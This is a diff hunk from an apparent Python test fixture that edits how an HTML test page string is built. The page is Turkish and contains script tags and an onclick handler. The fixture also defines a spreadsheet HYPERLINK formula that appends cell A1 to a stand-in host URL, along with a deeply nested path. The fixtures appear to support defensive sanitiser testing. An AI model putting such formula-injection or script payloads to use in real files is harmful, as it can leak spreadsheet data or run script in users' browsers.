@@ -49,7 +49,8 @@ FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
 PAGE = (
     '<html lang="tr"><head><title>Konferans</title><script>document.write("90 bayrak")</script>'
     f"</head><body><article><p>{TURKISH}</p><script>alert('80 bayrak')</script>"
-    f'<p onclick="alert(1)">Törene katılanlar hatıra fotoğrafı çektirdi.</p></article></body></html>'
+    '<p onclick="alert(1)">Törene katılanlar hatıra fotoğrafı çektirdi.</p></article>'
+    "</body></html>"
 )
 DEEP = "/".join(["deep"] * 60)
 
